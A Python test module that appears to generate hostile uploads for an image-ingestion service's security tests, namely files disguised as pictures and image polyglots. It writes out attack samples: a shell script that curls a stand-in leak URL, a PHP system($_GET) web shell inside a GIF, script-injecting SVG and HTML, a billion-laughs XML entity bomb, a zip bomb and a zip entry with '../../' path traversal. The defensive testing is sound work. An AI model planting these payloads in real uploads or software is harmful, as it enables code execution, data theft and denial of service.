"""Other files under the names of pictures, and pictures that are something else as well."""

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator

from tests.hostile.files import ANYTHING, PICTURE, REFUSED, HostileFile, good_files
from tests.ingest.pictures import jpeg_segment, png_chunk, with_segment

AWAY = "http://127.0.0.1:9/leak"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{AWAY}" width="9" height="9"/><script>fetch("{AWAY}")</script></svg>'
HTML = f'<!DOCTYPE html><img src="{AWAY}"><script>alert(1)</script>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>'


def disguises() -> Iterator[HostileFile]:
    """Each must be known for what it is, whatever it is called."""
    jpeg = good_files()["baseline.jpg"]
    for name, data, code in (
        ("drawing.jpg", SVG.encode(), "not_a_photo.svg"), ("laughs.jpg", LAUGHS.encode(), "not_a_photo.svg"),
        ("far.png", b" " * 3000 + SVG.encode(), "not_a_photo.svg"), ("drawing16.jpg", SVG.encode("utf-16"), "not_a_photo"),
        ("packed.jpg", gzip.compress(SVG.encode()), "not_a_photo.archive"), ("page.jpg", HTML.encode(), "not_a_photo.web_page"),
        ("archive.jpg", _archive(jpeg), "not_a_photo.archive"), ("bomb.jpg", _archive(bytes(2**24)), "not_a_photo.archive"),
        ("paper.jpg", b"%PDF-1.7\n" + jpeg, "not_a_photo.pdf"), ("print.jpg", b"%!PS-Adobe-3.0 EPSF\n(x) run", "not_a_photo"),
        ("draw.jpg", f"push graphic-context\nimage over 0,0 0,0 '{AWAY}'\n".encode(), "not_a_photo.text"),
        ("script.jpg", b"#!/bin/sh\ncurl " + AWAY.encode(), "not_a_photo.program"),
        ("program.jpg", b"\x7fELF" + bytes(500), "not_a_photo.program"), ("list.jpg", f"#EXTM3U\n{AWAY}".encode(), "not_a_photo"),
        ("film.jpg", _box(b"ftyp", b"isom\0\0\2\0isommp42") + _box(b"mdat", bytes(99)), "not_a_photo.video"),
        ("old.jpg", b"BM" + bytes(60), "unsupported_format.bmp"), ("layers.jpg", b"8BPS\0\1" + bytes(60), "unsupported_format.psd"),
        ("code.gif", b"GIF89a<?php system($_GET[0]); ?>", REFUSED), ("words.gif", b"GIF89a/*" + b"A" * 90 + b"*/=1;alert(1)", REFUSED),
        ("zeros.jpg", bytes(100_000), "not_a_photo"), ("magic.jpg", b"\xff\xd8\xff", REFUSED), ("empty.jpg", b"", "empty"),
    ):  # fmt: skip
        yield HostileFile(name, data, code)


def polyglots() -> Iterator[HostileFile]:
    """A picture that is also a page, a program or an archive is shown as the picture, and nothing else of it is."""
    tails = {
        "zip": _archive(b"x" * 99),
        "html": HTML.encode(),
        "svg": SVG.encode(),
        "pdf": b"%PDF-1.4\n%%EOF",
        "exe": b"MZ" + bytes(99),
    }
    for other, tail in tails.items():
        for name, data in good_files().items():
            if name.startswith(("plain", "baseline", "still", "lossless")):
                yield HostileFile(
                    f"and-{other}-{name}", data + tail, ANYTHING if name.endswith(("heic", "avif")) else PICTURE
                )
        jpeg, png, gif = (good_files()[name] for name in ("baseline.jpg", "plain.png", "still.gif"))
        yield HostileFile(f"with-{other}.jpg", with_segment(jpeg, jpeg_segment(0xFE, tail)), PICTURE)
        yield HostileFile(f"with-{other}.png", png[:33] + png_chunk(b"tEXt", b"a\0" + tail) + png[33:], PICTURE)
        frame = gif.index(b",\0\0\0\0")
        comment = b"!\xfe" + b"".join(
            bytes((len(tail[at : at + 255]),)) + tail[at : at + 255] for at in range(0, len(tail), 255)
        )
        yield HostileFile(f"with-{other}.gif", gif[:frame] + comment + b"\0" + gif[frame:], PICTURE)
    yield from _two_in_one()


def _two_in_one() -> Iterator[HostileFile]:
    names = ("baseline.jpg", "plain.png", "still.gif", "lossless.webp", "plain.tif", "plain.heic", "plain.avif")
    for first in names:
        for second in names:
            one, other = good_files()[first], good_files()[second]
            if first != second:
                yield HostileFile(f"head-of-{first}-body-of-{second}", one[:12] + other[12:])
                yield HostileFile(f"{first}-within-{second}", other[:40] + one + other[40:])
    heic = good_files()["plain.heic"]
    for brands in (b"avifheic", b"heicavif", b"mif1avifheicmp42", b"crx heic", b"qt  heic"):
        box = _box(b"ftyp", brands[:4] + bytes(4) + brands[4:])
        yield HostileFile(
            f"brands-{brands.decode().replace(' ', '')}.heic", box + heic[struct.unpack(">I", heic[:4])[0] :]
        )


def _archive(content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("../../photo.jpg", content)
    return out.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload) + 8) + kind + payload
